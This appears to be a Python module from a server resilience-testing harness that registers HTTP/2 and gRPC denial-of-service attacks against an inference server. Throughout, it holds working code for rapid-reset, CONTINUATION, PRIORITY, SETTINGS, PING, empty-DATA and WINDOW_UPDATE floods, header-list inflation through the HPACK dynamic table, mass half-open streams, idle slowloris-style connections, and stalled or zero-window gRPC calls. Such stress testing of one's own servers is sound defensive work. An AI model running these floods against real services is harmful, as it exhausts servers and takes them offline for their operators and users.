"""HTTP/2 frames that cost the server more than the sender: streams, resets, priorities, settings, pings, headers."""

import time

import raw_http
import raw_http2
from raw_http2 import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET, SETTINGS, WINDOW, Connection, frame,
)
from registry import Achieved, attack

SECONDS = 4


def flood(target, connections, piece, prepare=lambda connection: None, reads=True, seconds=SECONDS):
    """So many connections that send `piece(number)` again and again; a note of how much was taken.

    Where the server ends a connection another one is made, as an attacker would."""
    deadline = time.monotonic() + seconds

    def run(_):
        sent = ended = 0
        while time.monotonic() < deadline:
            try:
                connection = Connection(target.grpc, reads=reads)
            except OSError:
                time.sleep(0.1)
                continue
            prepare(connection)
            sent += flooded(connection, piece, deadline)
            ended += connection.closed
            connection.close()
        return sent, ended

    done = raw_http.together(connections, run)
    return f"{sum(sent for sent, _ in done) / 1e6:.0f} MB taken, connections ended {sum(ended for _, ended in done)} times"


def flooded(connection, piece, deadline):
    """Bytes sent until the server ended the connection, or the time was up."""
    sent = turn = 0
    while time.monotonic() < deadline:
        data = piece(turn)
        if not connection.send(data):
            break
        sent, turn = sent + len(data), turn + 1
    return sent


def streams_from(first, count, *frames):
    """`frames(stream)` for so many client streams."""
    return b"".join(make(2 * (first + number) + 1) for number in range(count) for make in frames)


@attack("streams-200000", triton=True)
def streams(target):
    """200,000 half-open streams on 40 connections, whatever the server allows"""
    block = raw_http2.call("ModelInfer")
    held = []

    def open_all(_):
        connection = Connection(target.grpc)
        held.append(connection)
        for batch in range(50):
            if not connection.send(streams_from(batch * 100, 100, lambda s: frame(HEADERS, END_HEADERS, s, block))):
                return

    raw_http.together(40, open_all)
    time.sleep(4)
    resets = sum(connection.seen.get(RESET, 0) for connection in held)
    ended = sum(connection.closed for connection in held)
    for connection in held:
        connection.close()
    return f"{resets} streams refused, {ended} of 40 connections ended"


@attack("streams-no-headers-end")
def continuation(target):
    """CONTINUATION frames without end on ten connections"""
    start = frame(HEADERS, 0, 1, raw_http2.call("ModelInfer"))
    more = frame(CONTINUATION, 0, 1, raw_http2.literal(b"x-more", b"a" * 16000)) * 10
    return flood(target, 10, lambda turn: start if turn == 0 else more)


@attack("rapid-reset", triton=True)
def rapid_reset(target):
    """streams opened and reset at once, on ten connections"""
    block = raw_http2.call("ModelInfer")
    cancel = (8).to_bytes(4, "big")

    def piece(turn):
        return streams_from(turn * 100, 100, lambda s: frame(HEADERS, END_HEADERS, s, block), lambda s: frame(RESET, 0, s, cancel))

    return flood(target, 10, piece)


@attack("priority-flood", triton=True)
def priority(target):
    """PRIORITY frames for streams that are not there, on ten connections"""
    frames = streams_from(0, 1000, lambda s: frame(PRIORITY, 0, s, bytes(5)))
    return flood(target, 10, lambda turn: frames)


@attack("settings-flood", triton=True)
def settings(target):
    """SETTINGS frames on ten connections that do not read the acknowledgements"""
    frames = frame(SETTINGS, 0, 0) * 1000
    return flood(target, 10, lambda turn: frames, reads=False)


@attack("ping-flood", triton=True)
def ping(target):
    """PING frames on ten connections that do not read the answers"""
    frames = frame(PING, 0, 0, bytes(8)) * 1000
    return flood(target, 10, lambda turn: frames, reads=False)


@attack("ping-flood-read", triton=True)
def ping_read(target):
    """PING frames on ten connections that read the answers"""
    frames = frame(PING, 0, 0, bytes(8)) * 1000
    return flood(target, 10, lambda turn: frames)


@attack("empty-data-flood", triton=True)
def empty_data(target):
    """DATA frames without bytes on an open stream, on ten connections"""
    frames = frame(DATA, 0, 1) * 1000
    return flood(target, 10, lambda turn: frames, lambda connection: connection.open(1, "ModelInfer"))


@attack("window-flood", triton=True)
def windows(target):
    """WINDOW_UPDATE frames of one byte on ten connections"""
    frames = frame(WINDOW, 0, 0, (1).to_bytes(4, "big")) * 1000
    return flood(target, 10, lambda turn: frames)


@attack("unknown-frames-flood")
def unknown(target):
    """frames of kinds that do not exist, and acknowledgements nobody asked for, on ten connections"""
    frames = (frame(0xEE, 0, 0, bytes(16)) + frame(SETTINGS, ACK, 0) + frame(PING, ACK, 0, bytes(8))) * 300
    return flood(target, 10, lambda turn: frames)


@attack("header-list-64mb", triton=True)
def header_list(target):
    """header lists that a small dynamic table entry inflates, on ten connections"""
    # One entry of 4,000 bytes enters the table, then each byte names it again.
    entry = b"\x40" + raw_http2.length(6) + b"x-more" + raw_http2.length(3900) + b"a" * 3900
    block = raw_http2.call("ModelInfer") + entry + b"\xbe" * 12_000

    def piece(turn):
        return streams_from(turn * 5, 5, lambda s: frame(HEADERS, END_HEADERS, s, block[:16384]))

    return flood(target, 10, piece)


@attack("silent-grpc", triton=True)
def silent(target):
    """2,000 gRPC connections that say nothing, half of them not even the preface"""
    held = raw_http.many(target.grpc, 1000, b"", keep_trying=True)
    held += raw_http.many(target.grpc, 1000, raw_http2.PREFACE + frame(SETTINGS, 0, 0), keep_trying=True)
    begin, left = time.monotonic(), list(held)
    while left and time.monotonic() - begin < 45:
        time.sleep(0.5)
        left = [connection for connection in left if not raw_http.is_closed(connection)]
    seconds = time.monotonic() - begin
    raw_http.close(held)
    mute = [c for c in left if c in held[:1000]]
    if mute:
        raise Achieved(f"{len(mute)} connections without a preface stay after 45 s ({len(left)} of all)")
    return f"{len(held)} connected, {len(left)} with a preface stay after {seconds:.0f} s"


@attack("half-grpc-messages", triton=True)
def half_messages(target):
    """1,000 calls whose message is announced as 60 MB and never comes"""
    held = []
    for _ in range(100):
        connection = Connection(target.grpc)
        held.append(connection)
        for number in range(10):
            stream = 2 * number + 1
            connection.open(stream, "ModelInfer")
            connection.send(frame(DATA, 0, stream, b"\0" + (60_000_000).to_bytes(4, "big") + b"\x0a"))
    time.sleep(5)
    for connection in held:
        connection.close()
    return f"{len(held)} connections"


@attack("closed-windows", triton=True)
def closed_windows(target):
    """1,000 calls whose answers cannot leave, for their windows are shut"""
    held = []
    for _ in range(100):
        connection = Connection(target.grpc, initial_window=0)
        held.append(connection)
        for number in range(10):
            stream = 2 * number + 1
            connection.open(stream, "RepositoryIndex")
            connection.send(frame(DATA, END_STREAM, stream, raw_http2.message(b"")))
    time.sleep(5)
    for connection in held:
        connection.close()
    return f"{len(held)} connections"
